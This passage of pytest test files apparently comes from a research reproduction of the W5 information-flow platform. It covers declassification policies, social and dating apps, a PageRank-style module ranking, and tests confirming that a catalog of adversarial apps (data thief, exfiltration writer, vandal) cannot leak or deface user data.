        assert any(e["text"] == "amy-was-here" for e in r.body["entries"])

    def test_wall_with_stranger_comment_blocked(self, provider, bob,
                                                amy, eve):
        """eve signs bob's wall but approves nobody: the composed wall
        cannot be exported to bob while her comment is on it."""
        self._enable_all(provider, "bob", "amy", "eve")
        eve.get("/app/guestbook/sign", wall="bob", text="EVE-PRIVATE")
        r = bob.get("/app/guestbook/view", wall="bob")
        assert r.status == 403
        assert not bob.ever_received("EVE-PRIVATE")

    def test_erase_own_comments_only(self, provider, bob, amy):
        self._enable_all(provider, "bob", "amy")
        amy.get("/app/guestbook/sign", wall="bob", text="a1")
        bob.get("/app/guestbook/sign", wall="bob", text="b1")
        r = amy.get("/app/guestbook/erase", wall="bob")
        assert r.body["erased"] == 1
        r = bob.get("/app/guestbook/view", wall="bob")
        texts = [e["text"] for e in r.body["entries"]]
        assert texts == ["b1"]

    def test_vandal_cannot_erase_others(self, provider, bob, amy, eve):
        """eve's erase touches only her own (nonexistent) comments —
        write protection on amy's rows."""
        self._enable_all(provider, "bob", "amy", "eve")
        amy.get("/app/guestbook/sign", wall="bob", text="keep-me")
        r = eve.get("/app/guestbook/erase", wall="bob")
        assert r.body["erased"] == 0
        r = bob.get("/app/guestbook/view", wall="bob")
        assert [e["text"] for e in r.body["entries"]] == ["keep-me"]
