"""Shared fixtures: a provider with the standard catalog and three users."""

import pytest

from repro.apps import install_adversarial_apps, install_standard_apps
from repro.net import ExternalClient
from repro.platform import Provider


@pytest.fixture()
def provider():
    p = Provider()
    install_standard_apps(p)
    install_adversarial_apps(p)
    return p


def make_user(provider, username, enable=(), friends=()):
    """Sign up a user, enable apps, grant a friends-only declassifier."""
    client = ExternalClient(username, provider.transport())
    client.post("/signup", params={"username": username, "password": "pw"})
    client.login("pw")
    for app in enable:
        client.post("/policy/enable", params={"app": app})
    provider.grant_builtin_declassifier(username, "friends-only",
                                        {"friends": list(friends)})
    return client


@pytest.fixture()
def bob(provider):
    return make_user(provider,
                     "bob",
                     enable=("photo-share", "blog", "social",
                             "recommender", "dating", "chameleon",
                             "address-map"),
                     friends=("amy",))


@pytest.fixture()
def amy(provider):
    return make_user(provider,
                     "amy",
                     enable=("photo-share", "blog", "social",
                             "recommender", "dating", "chameleon",
                             "address-map"),
                     friends=("bob",))


@pytest.fixture()
def eve(provider):
    return make_user(provider, "eve", enable=("social",), friends=())
