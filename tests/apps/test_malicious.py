"""Tests for the adversarial catalog: every attack must fail on W5."""

import pytest

from repro.net import ExternalClient


SECRET = "BOBS-DIARY-CONTENTS"


@pytest.fixture()
def bob_with_secret(provider, bob):
    provider.store_user_data("bob", "diary.txt", SECRET)
    return bob


class TestDataThief:
    def test_victim_must_enable_the_thief(self, provider, bob_with_secret,
                                          eve):
        """If bob never enabled data-thief, it cannot even read."""
        r = eve.get("/app/data-thief/go", victim="bob")
        assert r.status in (403, 500)
        assert not eve.ever_received(SECRET)

    def test_thief_reads_but_cannot_export(self, provider, bob_with_secret,
                                           eve):
        """bob falls for it and enables the thief; his data still only
        exits toward bob (§3.1 boilerplate policy)."""
        provider.enable_app("bob", "data-thief")
        r = eve.get("/app/data-thief/go", victim="bob")
        assert r.status == 403
        assert not eve.ever_received(SECRET)

    def test_thief_output_reaches_victim_fine(self, provider,
                                              bob_with_secret):
        provider.enable_app("bob", "data-thief")
        bob = bob_with_secret
        r = bob.get("/app/data-thief/go", victim="bob")
        assert r.ok  # to bob himself, this is just a backup app

    def test_anonymous_gets_nothing(self, provider, bob_with_secret):
        provider.enable_app("bob", "data-thief")
        anon = ExternalClient("anon", provider.transport())
        r = anon.get("/app/data-thief/go", victim="bob")
        assert r.status in (403, 500)
        assert not anon.ever_received(SECRET)


class TestExfilWriter:
    def test_cannot_write_secrets_to_public_file(self, provider,
                                                 bob_with_secret, eve):
        provider.enable_app("bob", "exfil-writer")
        # prepare a public drop directory anyone could read
        svc = provider.kernel.spawn_trusted("setup")
        from repro.fs import FsView
        # root is provider-write-protected; use the account service
        FsView(provider.fs, provider._account_service).mkdir("/public_drop")
        r = eve.get("/app/exfil-writer/go", victim="bob")
        assert r.status in (403, 500)
        # nothing was dropped
        snoop = provider.kernel.spawn_trusted("snoop")
        assert FsView(provider.fs, snoop).listdir("/public_drop") == []


class TestColludingPair:
    def test_confederate_relay_refused(self, provider, bob_with_secret,
                                       eve):
        provider.enable_app("bob", "confederate")
        r = eve.get("/app/confederate/go", victim="bob")
        assert r.status in (403, 500)
        assert not eve.ever_received(SECRET)
        # the kernel logged the denied send
        assert provider.kernel.audit.count(category="send",
                                           allowed=False) >= 1


class TestVandal:
    def test_deface_blocked_without_write_grant(self, provider,
                                                bob_with_secret, eve):
        """bob enables the vandal read-only; write protection holds."""
        provider.enable_app("bob", "vandal", allow_write=False)
        r = eve.get("/app/vandal/go", victim="bob", mode="deface")
        # the app itself ran (reading is allowed), but touched nothing
        assert provider.read_user_data("bob", "diary.txt") == SECRET

    def test_delete_blocked_without_write_grant(self, provider,
                                                bob_with_secret, eve):
        provider.enable_app("bob", "vandal", allow_write=False)
        eve.get("/app/vandal/go", victim="bob", mode="delete")
        assert provider.read_user_data("bob", "diary.txt") == SECRET

    def test_vandal_with_write_grant_succeeds(self, provider,
                                              bob_with_secret):
        """If bob grants write, the vandal CAN deface — the paper's
        point: 'must trust the delegate to write faithful
        representations' (§3.1).  Choice has consequences; the
        mechanism only guarantees what was promised."""
        provider.enable_app("bob", "vandal", allow_write=True)
        bob = bob_with_secret
        r = bob.get("/app/vandal/go", victim="bob", mode="deface")
        assert r.ok and r.body["vandalized"] >= 1
        assert provider.read_user_data("bob", "diary.txt") == "DEFACED"


class TestProprietaryWriter:
    def test_antisocial_app_is_not_blocked(self, provider, bob):
        """W5 does not prevent anti-social behaviour (§3.2) — the blob
        is stored under the user's own labels, fair and square."""
        provider.enable_app("bob", "proprietary-writer")
        r = bob.get("/app/proprietary-writer/save", music="jazz")
        assert r.ok
        blob = provider.read_user_data("bob", "proprietary.dat")
        assert blob.startswith("PROPRIETARYv1")
