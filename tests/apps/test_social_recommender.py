"""Tests for social networking, recommender, dating, chameleon, mashup."""


class TestSocial:
    def test_befriend_and_list(self, provider, bob):
        bob.get("/app/social/befriend", friend="amy")
        r = bob.get("/app/social/friends")
        assert r.body["friends"] == ["amy"]

    def test_profile_of_friend(self, provider, bob, amy):
        provider.set_profile("bob", music="jazz")
        r = amy.get("/app/social/profile", user="bob")
        assert r.ok and r.body["profile"]["music"] == "jazz"

    def test_profile_blocked_for_stranger(self, provider, bob, eve):
        provider.set_profile("bob", music="SECRET-JAZZ")
        r = eve.get("/app/social/profile", user="bob")
        assert r.status in (403, 500)
        assert not eve.ever_received("SECRET-JAZZ")

    def test_feed_commingles_friends(self, provider, bob, amy):
        amy.get("/app/blog/post", title="amy-post", body="x")
        bob.get("/app/social/befriend", friend="amy")
        r = bob.get("/app/social/feed")
        assert {"author": "amy", "title": "amy-post"} in r.body["feed"]

    def test_feed_export_needs_every_owner_consent(self, provider, bob,
                                                   amy, eve):
        """A feed mixing amy's and eve's posts reaches bob only if both
        declassifiers approve him; eve's does not."""
        amy.get("/app/blog/post", title="amy-post", body="x")
        # eve posts, and bob befriends eve in app data — but eve's
        # friends-only declassifier has no friends.
        eve.post("/policy/enable", params={"app": "blog"})
        eve.get("/app/blog/post", title="eve-post", body="EVE-PRIVATE")
        bob.get("/app/social/befriend", friend="amy")
        bob.get("/app/social/befriend", friend="eve")
        r = bob.get("/app/social/feed")
        assert r.status == 403
        assert not bob.ever_received("eve-post")


class TestRecommender:
    def test_digest_over_friends(self, provider, bob, amy):
        amy.get("/app/blog/post", title="t1", body="b1")
        amy.get("/app/photo-share/upload", filename="p1.jpg", data="D")
        bob.get("/app/social/befriend", friend="amy")
        r = bob.get("/app/recommender/digest", k=5)
        assert r.ok
        kinds = {item["kind"] for item in r.body["digest"]}
        assert "photo" in kinds and "post" in kinds

    def test_digest_respects_k(self, provider, bob, amy):
        for i in range(4):
            amy.get("/app/blog/post", title=f"t{i}", body="b")
        bob.get("/app/social/befriend", friend="amy")
        r = bob.get("/app/recommender/digest", k=2)
        assert len(r.body["digest"]) == 2
        assert r.body["considered"] == 4

    def test_custom_scorer_preference(self, provider, bob, amy):
        amy.get("/app/blog/post", title="long", body="A" * 500)
        amy.get("/app/photo-share/upload", filename="p.jpg", data="D")
        bob.get("/app/social/befriend", friend="amy")
        bob.post("/policy/prefer", params={"slot": "scorer",
                                           "module": "score-verbose"})
        r = bob.get("/app/recommender/digest", k=1)
        assert r.body["digest"][0]["kind"] == "post"


class TestDating:
    def _join_all(self, provider, bob, amy):
        provider.set_profile("bob", music="jazz", food="ramen")
        provider.set_profile("amy", music="jazz", food="tacos")
        bob.get("/app/dating/join", bio="likes jazz")
        amy.get("/app/dating/join", bio="likes jazz too")

    def test_matches_ranked(self, provider, bob, amy):
        self._join_all(provider, bob, amy)
        r = bob.get("/app/dating/matches", k=3)
        assert r.ok
        assert r.body["matches"][0]["user"] == "amy"
        assert r.body["matches"][0]["score"] >= 1.0

    def test_custom_metric(self, provider, bob, amy):
        self._join_all(provider, bob, amy)
        bob.post("/policy/prefer", params={"slot": "metric",
                                           "module": "metric-opposites"})
        r = bob.get("/app/dating/matches", k=3)
        # opposites metric counts differing fields (food + romance maybe)
        assert r.body["matches"][0]["score"] >= 1.0

    def test_must_join_first(self, provider, bob):
        r = bob.get("/app/dating/matches")
        assert r.body["error"] == "join first"


class TestChameleon:
    def test_owner_sees_everything(self, provider, bob):
        provider.set_profile("bob", books="sci-fi", music="jazz")
        bob.get("/app/chameleon/configure", field="books", hide_from="dot")
        r = bob.get("/app/chameleon/show")
        assert r.body["profile"]["books"] == "sci-fi"

    def test_hidden_from_love_interest(self, provider, bob, amy):
        provider.set_profile("bob", books="sci-fi", music="jazz")
        bob.get("/app/chameleon/configure", field="books", hide_from="amy")
        r = amy.get("/app/chameleon/show", owner="bob")
        assert r.ok
        assert "books" not in r.body["profile"]
        assert r.body["profile"]["music"] == "jazz"

    def test_other_friends_still_see(self, provider, bob, amy):
        provider.set_profile("bob", books="sci-fi")
        bob.get("/app/chameleon/configure", field="books", hide_from="dot")
        r = amy.get("/app/chameleon/show", owner="bob")
        assert r.body["profile"]["books"] == "sci-fi"


class TestMashup:
    def test_map_renders_server_side(self, provider, bob):
        bob.get("/app/address-map/add", name="mom", address="12 Elm St")
        bob.get("/app/address-map/add", name="dan", address="9 Oak Ave")
        r = bob.get("/app/address-map/map")
        assert r.ok
        assert r.body["markers"] == 2
        assert "mom@" in r.body["map"] and "dan@" in r.body["map"]

    def test_addresses_never_reach_other_viewers(self, provider, bob, eve):
        bob.get("/app/address-map/add", name="mom",
                address="SECRET-12-ELM")
        r = eve.get("/app/address-map/map")
        # eve sees her own (empty) book, or a refusal — never bob's data
        assert not eve.ever_received("SECRET-12-ELM")
