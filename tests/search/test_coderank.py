"""Unit tests for CodeRank and ranking helpers."""

import math

import pytest

from repro.search import (DependencyGraph, EMBED, IMPORT, coderank,
                          popularity_rank, precision_at_k, top_k)
from repro.workloads import make_module_ecosystem


class TestDependencyGraph:
    def test_add_edges_and_modules(self):
        dg = DependencyGraph()
        dg.add_edge("app", "lib")
        assert dg.modules() == ["app", "lib"]

    def test_bad_kind_rejected(self):
        dg = DependencyGraph()
        with pytest.raises(ValueError):
            dg.add_edge("a", "b", kind="telepathy")

    def test_from_edges(self):
        dg = DependencyGraph.from_edges([("a", "b"), ("b", "c")])
        assert dg.graph.has_edge("a", "b")

    def test_from_registry(self):
        from repro.platform import AppModule, Registry
        reg = Registry()
        reg.register(AppModule("lib", "d", lambda ctx: None, kind="module"))
        reg.register(AppModule("app", "d", lambda ctx: None,
                               imports=("lib",)))
        dg = DependencyGraph.from_registry(reg, usage_edges=[("app", "lib")])
        # the import edge and the usage edge merge, strongest kind wins
        assert dg.graph.number_of_edges() == 1
        assert dg.graph["app"]["lib"]["kind"] == IMPORT


class TestCodeRank:
    def test_scores_sum_to_one(self):
        dg = DependencyGraph.from_edges([("a", "b"), ("b", "c"), ("c", "a")])
        scores = coderank(dg)
        assert math.isclose(sum(scores.values()), 1.0, rel_tol=1e-6)

    def test_empty_graph(self):
        assert coderank(DependencyGraph()) == {}

    def test_widely_imported_module_ranks_high(self):
        edges = [(f"app{i}", "corelib") for i in range(10)]
        edges += [("app0", "rarelib")]
        scores = coderank(DependencyGraph.from_edges(edges))
        assert scores["corelib"] > scores["rarelib"]

    def test_endorsement_quality_matters(self):
        """A module imported by a well-imported module outranks one
        imported by an orphan — the PageRank property."""
        edges = [("hub", "quality-dep")]
        edges += [(f"app{i}", "hub") for i in range(8)]
        edges += [("orphan", "orphan-dep")]
        scores = coderank(DependencyGraph.from_edges(edges))
        assert scores["quality-dep"] > scores["orphan-dep"]

    def test_bad_damping_rejected(self):
        dg = DependencyGraph.from_edges([("a", "b")])
        for bad in (0.0, 1.0, -0.5, 2.0):
            with pytest.raises(ValueError):
                coderank(dg, damping=bad)

    def test_embed_weight_discounts(self):
        dg = DependencyGraph()
        for i in range(5):
            dg.add_edge(f"a{i}", "via-import", kind=IMPORT)
            dg.add_edge(f"b{i}", "via-embed", kind=EMBED)
        scores = coderank(dg, import_weight=1.0, embed_weight=0.25)
        assert scores["via-import"] > scores["via-embed"]

    def test_equal_weights_make_kinds_equal(self):
        dg = DependencyGraph()
        for i in range(5):
            dg.add_edge(f"a{i}", "x", kind=IMPORT)
            dg.add_edge(f"b{i}", "y", kind=EMBED)
        scores = coderank(dg, import_weight=1.0, embed_weight=1.0)
        assert math.isclose(scores["x"], scores["y"], rel_tol=1e-9)

    def test_deterministic(self):
        eco = make_module_ecosystem(seed=5)
        dg = DependencyGraph(graph=eco.graph)
        assert coderank(dg) == coderank(dg)

    def test_sybil_resistance_on_ecosystem(self):
        """The C5 claim in miniature.  Self-reported usage counts are
        fully spoofed by the spam clique; uniform PageRank is partly
        fooled by the clique's recirculation; adoption-personalized
        CodeRank (teleport mass only where real users are) finds the
        planted core."""
        eco = make_module_ecosystem(seed=3)
        dg = DependencyGraph(graph=eco.graph)
        candidates = eco.planted_core | eco.spam_clique | {
            m for m in eco.modules if m.startswith("filler-")}
        k = len(eco.planted_core)

        pop = popularity_rank(eco.usage_counts)
        p_popularity = precision_at_k(pop, eco.planted_core, k,
                                      restrict_to=candidates)
        assert p_popularity == 0.0  # spam owns the top-k

        personalized = coderank(dg, personalization=eco.adoption_counts)
        p_personalized = precision_at_k(personalized, eco.planted_core, k,
                                        restrict_to=candidates)
        assert p_personalized >= 0.8
        assert p_personalized > p_popularity

    def test_uniform_pagerank_is_spammable(self):
        """The ablation motivating personalization: with uniform
        teleport the spam clique amplifies its teleport mass and
        crowds out the core — naive PageRank is not enough."""
        eco = make_module_ecosystem(seed=3)
        dg = DependencyGraph(graph=eco.graph)
        uniform = coderank(dg)
        spam_mass = sum(uniform[m] for m in eco.spam_clique)
        core_mass = sum(uniform[m] for m in eco.planted_core)
        assert spam_mass > core_mass

    def test_personalization_starves_sybils(self):
        eco = make_module_ecosystem(seed=3)
        dg = DependencyGraph(graph=eco.graph)
        personalized = coderank(dg, personalization=eco.adoption_counts)
        spam_mass = sum(personalized[m] for m in eco.spam_clique)
        core_mass = sum(personalized[m] for m in eco.planted_core)
        assert core_mass > spam_mass * 5

    def test_empty_personalization_falls_back_uniform(self):
        dg = DependencyGraph.from_edges([("a", "b")])
        assert coderank(dg, personalization={}) == coderank(dg)


class TestRankingHelpers:
    def test_top_k(self):
        scores = {"a": 0.5, "b": 0.3, "c": 0.9}
        assert top_k(scores, 2) == ["c", "a"]

    def test_top_k_ties_deterministic(self):
        scores = {"b": 0.5, "a": 0.5}
        assert top_k(scores, 2) == ["a", "b"]

    def test_top_k_restrict(self):
        scores = {"a": 0.9, "b": 0.5, "c": 0.1}
        assert top_k(scores, 2, restrict_to={"b", "c"}) == ["b", "c"]

    def test_precision_at_k(self):
        scores = {"a": 0.9, "b": 0.8, "c": 0.1}
        assert precision_at_k(scores, {"a", "c"}, 2) == 0.5

    def test_precision_k_zero(self):
        assert precision_at_k({"a": 1.0}, {"a"}, 0) == 0.0

    def test_popularity_rank_normalizes(self):
        pr = popularity_rank({"a": 30, "b": 70})
        assert math.isclose(pr["a"] + pr["b"], 1.0)
        assert pr["b"] > pr["a"]

    def test_popularity_rank_empty(self):
        assert popularity_rank({}) == {}
