"""Unit tests for editors, reputation, and the combined trust score."""

import pytest

from repro.search import DependencyGraph, EditorBoard, TrustScorer


@pytest.fixture()
def board():
    b = EditorBoard()
    b.editor("journal").endorse("corelib")
    b.editor("journal").endorse("goodapp")
    b.editor("shill").endorse("spamlib")
    return b


ADOPTION = {"corelib": 100, "goodapp": 60, "spamlib": 2}


class TestEditors:
    def test_editor_identity_stable(self, board):
        assert board.editor("journal") is board.editor("journal")

    def test_endorse_and_retract(self, board):
        ed = board.editor("journal")
        ed.endorse("x")
        assert "x" in ed.endorsed
        ed.retract("x")
        assert "x" not in ed.endorsed

    def test_editors_sorted(self, board):
        assert [e.name for e in board.editors()] == ["journal", "shill"]

    def test_reputation_tracks_adoption(self, board):
        rep = board.reputation(ADOPTION)
        assert rep["journal"] == 1.0
        assert rep["shill"] < 0.1

    def test_reputation_empty_endorsements(self):
        b = EditorBoard()
        b.editor("lazy")
        assert b.reputation({"x": 5})["lazy"] == 0.0

    def test_reputation_all_zero(self):
        b = EditorBoard()
        b.editor("e").endorse("m")
        assert b.reputation({}) == {"e": 0.0}

    def test_endorsement_score(self, board):
        scores = board.endorsement_score(ADOPTION)
        assert scores["corelib"] > scores["spamlib"]


class TestTrustScorer:
    def test_blend_includes_all_signals(self, board):
        deps = DependencyGraph.from_edges(
            [(f"app{i}", "corelib") for i in range(5)] + [("x", "spamlib")])
        scorer = TrustScorer()
        scores = scorer.score(deps, usage_counts={"corelib": 10,
                                                  "spamlib": 50},
                              board=board, adoption_counts=ADOPTION)
        assert scores["corelib"] > scores["spamlib"]

    def test_structure_only(self):
        deps = DependencyGraph.from_edges([("a", "b")])
        scorer = TrustScorer(w_structure=1.0, w_popularity=0.0,
                             w_editorial=0.0)
        scores = scorer.score(deps, usage_counts={})
        assert scores["b"] > scores["a"]

    def test_popularity_only(self):
        scorer = TrustScorer(w_structure=0.0, w_popularity=1.0,
                             w_editorial=0.0)
        scores = scorer.score(DependencyGraph(),
                              usage_counts={"hot": 90, "cold": 10})
        assert scores["hot"] > scores["cold"]

    def test_editorial_only(self, board):
        scorer = TrustScorer(w_structure=0.0, w_popularity=0.0,
                             w_editorial=1.0)
        scores = scorer.score(DependencyGraph(), usage_counts={},
                              board=board, adoption_counts=ADOPTION)
        assert scores["corelib"] > scores.get("spamlib", 0.0)
