"""Property tests: the declassification service's two interfaces agree.

``may_release(tag, viewer)`` (the per-decision oracle) and
``authority_for(viewer)`` (the bulk capability set the gateway uses)
must never disagree — a mismatch would mean the audit trail and the
enforcement diverge.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.declassify import (DeclassificationService, FriendsOnly, Group,
                              Public, TimeEmbargo)
from repro.kernel import Kernel

USERS = ["u0", "u1", "u2", "u3"]


def build_service(grant_specs, clock):
    kernel = Kernel()
    svc = DeclassificationService(kernel)
    svc.now = clock
    root = kernel.spawn_trusted("root")
    tags = {u: kernel.create_tag(root, purpose=u, tag_owner=u)
            for u in USERS}
    for owner, kind, config_users, release_at in grant_specs:
        if kind == "public":
            policy = Public()
        elif kind == "friends":
            policy = FriendsOnly({"friends": config_users})
        elif kind == "group":
            policy = Group({"members": config_users})
        else:
            policy = TimeEmbargo({"release_at": release_at})
        svc.grant(owner, tags[owner], policy)
    return svc, tags


grant_spec = st.tuples(
    st.sampled_from(USERS),
    st.sampled_from(["public", "friends", "group", "embargo"]),
    st.lists(st.sampled_from(USERS), max_size=3),
    st.floats(min_value=0, max_value=200))


class TestInterfaceAgreement:
    @settings(max_examples=80, deadline=None)
    @given(st.lists(grant_spec, max_size=6),
           st.floats(min_value=0, max_value=200),
           st.sampled_from(USERS + [None]))
    def test_oracle_matches_authority(self, grants, clock, viewer):
        svc, tags = build_service(grants, clock)
        authority = svc.authority_for(viewer)
        for owner, tag in tags.items():
            oracle = svc.may_release(tag, viewer)
            bulk = authority.can_remove(tag)
            assert oracle == bulk, (
                f"may_release={oracle} but authority={bulk} for "
                f"tag of {owner}, viewer {viewer}")

    @settings(max_examples=50, deadline=None)
    @given(st.lists(grant_spec, max_size=6),
           st.sampled_from(USERS))
    def test_own_tags_always_in_authority(self, grants, viewer):
        svc, tags = build_service(grants, 0.0)
        authority = svc.authority_for(viewer, own_tags=[tags[viewer]])
        assert authority.can_remove(tags[viewer])

    @settings(max_examples=50, deadline=None)
    @given(st.lists(grant_spec, max_size=6))
    def test_revoking_everything_empties_authority(self, grants):
        svc, tags = build_service(grants, 150.0)
        for owner, tag in tags.items():
            svc.revoke(owner, tag)
        for viewer in USERS + [None]:
            assert len(svc.authority_for(viewer)) == 0
