"""Unit tests for the declassification service (grants + authority)."""

import pytest

from repro.declassify import (DeclassificationService, FriendsOnly, Public,
                              TimeEmbargo)
from repro.kernel import Kernel
from repro.labels import Label, exportable_tags


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def svc(kernel):
    return DeclassificationService(kernel)


@pytest.fixture()
def bob_tag(kernel):
    root = kernel.spawn_trusted("root")
    return kernel.create_tag(root, purpose="bob-data", tag_owner="bob")


class TestGrants:
    def test_grant_and_list(self, svc, bob_tag):
        svc.grant("bob", bob_tag, FriendsOnly({"friends": ["amy"]}))
        assert len(svc.grants_for("bob")) == 1
        assert svc.grants_for("amy") == []

    def test_revoke_all_on_tag(self, svc, bob_tag):
        svc.grant("bob", bob_tag, Public())
        svc.grant("bob", bob_tag, FriendsOnly())
        assert svc.revoke("bob", bob_tag) == 2
        assert svc.grants_for("bob") == []

    def test_revoke_by_name(self, svc, bob_tag):
        svc.grant("bob", bob_tag, Public())
        svc.grant("bob", bob_tag, FriendsOnly({"friends": ["amy"]}))
        assert svc.revoke("bob", bob_tag, declassifier_name="public") == 1
        assert svc.grants_for("bob")[0].declassifier.name == "friends-only"

    def test_grants_audited(self, svc, kernel, bob_tag):
        svc.grant("bob", bob_tag, Public())
        assert kernel.audit.count(category="declassify") == 1


class TestMayRelease:
    def test_no_grants_no_release(self, svc, bob_tag):
        assert not svc.may_release(bob_tag, "amy")

    def test_friend_released(self, svc, bob_tag):
        svc.grant("bob", bob_tag, FriendsOnly({"friends": ["amy"]}))
        assert svc.may_release(bob_tag, "amy")
        assert not svc.may_release(bob_tag, "eve")

    def test_any_approving_grant_suffices(self, svc, bob_tag):
        svc.grant("bob", bob_tag, FriendsOnly({"friends": []}))
        svc.grant("bob", bob_tag, Public())
        assert svc.may_release(bob_tag, "anyone")

    def test_embargo_uses_service_clock(self, svc, bob_tag):
        svc.grant("bob", bob_tag, TimeEmbargo({"release_at": 100.0}))
        svc.now = 50.0
        assert not svc.may_release(bob_tag, "amy")
        svc.now = 150.0
        assert svc.may_release(bob_tag, "amy")

    def test_refusals_audited(self, svc, kernel, bob_tag):
        svc.may_release(bob_tag, "amy")
        assert kernel.audit.count(category="declassify", allowed=False) == 1


class TestAuthorityFor:
    def test_own_tags_always_included(self, svc, bob_tag):
        caps = svc.authority_for("bob", own_tags=[bob_tag])
        assert caps.can_remove(bob_tag)

    def test_granted_viewer_gets_minus(self, svc, bob_tag):
        svc.grant("bob", bob_tag, FriendsOnly({"friends": ["amy"]}))
        caps = svc.authority_for("amy")
        assert caps.can_remove(bob_tag)

    def test_ungranted_viewer_gets_nothing(self, svc, bob_tag):
        svc.grant("bob", bob_tag, FriendsOnly({"friends": ["amy"]}))
        assert len(svc.authority_for("eve")) == 0

    def test_authority_composes_with_export_check(self, svc, bob_tag):
        """End-to-end with the labels layer: the authority makes the
        residual exportable set empty exactly for approved viewers."""
        svc.grant("bob", bob_tag, FriendsOnly({"friends": ["amy"]}))
        content = Label([bob_tag])
        assert exportable_tags(content, svc.authority_for("amy")).is_empty()
        assert not exportable_tags(content, svc.authority_for("eve")).is_empty()

    def test_anonymous_viewer(self, svc, bob_tag):
        svc.grant("bob", bob_tag, Public())
        caps = svc.authority_for(None)
        assert caps.can_remove(bob_tag)
