"""Unit tests for the built-in declassifier policies."""

import pytest

from repro.declassify import (BUILTINS, Declassifier, FriendsOnly, Group,
                              OwnerOnly, Public, ReleaseContext, TimeEmbargo,
                              ViewerPredicate)


def ctx(owner="bob", viewer="amy", kind="", now=0.0, **attrs):
    return ReleaseContext(owner=owner, viewer=viewer, kind=kind, now=now,
                          attributes=attrs)


class TestOwnerOnly:
    def test_owner_allowed(self):
        assert OwnerOnly().decide(ctx(viewer="bob"))

    def test_others_denied(self):
        assert not OwnerOnly().decide(ctx(viewer="amy"))

    def test_anonymous_denied(self):
        assert not OwnerOnly().decide(ctx(viewer=None))


class TestPublic:
    def test_everyone_allowed(self):
        assert Public().decide(ctx(viewer="amy"))
        assert Public().decide(ctx(viewer=None))


class TestFriendsOnly:
    def test_friend_allowed(self):
        d = FriendsOnly({"friends": ["amy", "carl"]})
        assert d.decide(ctx(viewer="amy"))

    def test_stranger_denied(self):
        d = FriendsOnly({"friends": ["amy"]})
        assert not d.decide(ctx(viewer="eve"))

    def test_owner_always_allowed(self):
        d = FriendsOnly({"friends": []})
        assert d.decide(ctx(viewer="bob"))

    def test_anonymous_denied(self):
        d = FriendsOnly({"friends": ["amy"]})
        assert not d.decide(ctx(viewer=None))

    def test_empty_config(self):
        assert not FriendsOnly().decide(ctx(viewer="amy"))


class TestGroup:
    def test_member_allowed(self):
        d = Group({"members": ["team1", "team2"]})
        assert d.decide(ctx(viewer="team1"))

    def test_non_member_denied(self):
        assert not Group({"members": ["x"]}).decide(ctx(viewer="eve"))

    def test_owner_allowed(self):
        assert Group({"members": []}).decide(ctx(viewer="bob"))


class TestTimeEmbargo:
    def test_before_embargo_denied(self):
        d = TimeEmbargo({"release_at": 100.0})
        assert not d.decide(ctx(viewer="amy", now=50.0))

    def test_after_embargo_allowed(self):
        d = TimeEmbargo({"release_at": 100.0})
        assert d.decide(ctx(viewer="amy", now=150.0))

    def test_boundary_inclusive(self):
        d = TimeEmbargo({"release_at": 100.0})
        assert d.decide(ctx(viewer="amy", now=100.0))

    def test_owner_sees_before_embargo(self):
        d = TimeEmbargo({"release_at": 100.0})
        assert d.decide(ctx(viewer="bob", now=0.0))

    def test_no_config_never_releases_to_others(self):
        assert not TimeEmbargo().decide(ctx(viewer="amy", now=1e12))


class TestViewerPredicate:
    def test_chameleon_profile(self):
        """Bob hides his Sci-Fi shelf from love interests (§2)."""
        love_interests = {"dot", "pat"}
        d = ViewerPredicate({
            "predicate": lambda owner, viewer, attrs:
                viewer not in love_interests})
        assert d.decide(ctx(viewer="amy"))
        assert not d.decide(ctx(viewer="dot"))

    def test_attributes_passed_through(self):
        d = ViewerPredicate({
            "predicate": lambda o, v, attrs: attrs.get("app") == "photos"})
        assert d.decide(ctx(viewer="amy", app="photos"))
        assert not d.decide(ctx(viewer="amy", app="blog"))

    def test_missing_predicate_denies(self):
        assert not ViewerPredicate().decide(ctx(viewer="amy"))

    def test_owner_allowed_without_predicate(self):
        assert ViewerPredicate().decide(ctx(viewer="bob"))


class TestFramework:
    def test_builtins_registry_complete(self):
        assert set(BUILTINS) == {"owner-only", "public", "friends-only",
                                 "group", "time-embargo", "viewer-predicate"}

    def test_abstract_decide_raises(self):
        with pytest.raises(NotImplementedError):
            Declassifier().decide(ctx())

    def test_audit_surface_is_small(self):
        """The paper's auditability claim: every builtin is tiny."""
        for cls in BUILTINS.values():
            assert 0 < cls.audit_surface_loc() < 40

    def test_context_is_frozen(self):
        c = ctx()
        with pytest.raises(AttributeError):
            c.viewer = "eve"  # type: ignore[misc]

    def test_config_is_copied(self):
        friends = ["amy"]
        d = FriendsOnly({"friends": friends})
        friends.append("eve")
        assert not d.decide(ctx(viewer="eve"))
