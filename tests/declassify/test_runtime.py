"""Unit tests for the kernel-level declassifier process."""

import pytest

from repro.declassify import (FriendsOnly, KernelDeclassifier, Public,
                              ReleaseRefused)
from repro.kernel import Kernel, MailboxEmpty, RECV, SEND
from repro.labels import Label, SecrecyViolation


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def world(kernel):
    """bob's tag, a tainted producer app, a clean consumer, and a
    friends-only declassifier bridging them."""
    root = kernel.spawn_trusted("root")
    tag = kernel.create_tag(root, purpose="bob-data", tag_owner="bob")
    producer = kernel.spawn_trusted("photo-app", slabel=Label([tag]))
    producer_out = kernel.create_endpoint(producer, direction=SEND)
    consumer = kernel.spawn_trusted("amy-renderer")
    consumer_in = kernel.create_endpoint(consumer, direction=RECV)
    declas = KernelDeclassifier(kernel, tag,
                                FriendsOnly({"friends": ["amy"]}),
                                owner="bob")
    return tag, producer, producer_out, consumer, consumer_in, declas


class TestPump:
    def test_approved_release_flows(self, kernel, world):
        tag, producer, p_out, consumer, c_in, declas = world
        kernel.send(producer, p_out, declas.inbox, {"photo": "beach.jpg"})
        released = declas.pump("amy", c_in)
        assert released == {"photo": "beach.jpg"}
        assert kernel.receive(consumer).payload == {"photo": "beach.jpg"}

    def test_refused_release_blocks_and_drops(self, kernel, world):
        tag, producer, p_out, consumer, c_in, declas = world
        kernel.send(producer, p_out, declas.inbox, {"photo": "private.jpg"})
        with pytest.raises(ReleaseRefused):
            declas.pump("eve", c_in)
        # nothing reached the consumer, and the request is gone
        with pytest.raises(MailboxEmpty):
            kernel.receive(consumer)
        assert declas.pending() == 0

    def test_producer_cannot_bypass_declassifier(self, kernel, world):
        """The tainted app cannot send to the clean consumer directly —
        only through the declassifier."""
        tag, producer, p_out, consumer, c_in, declas = world
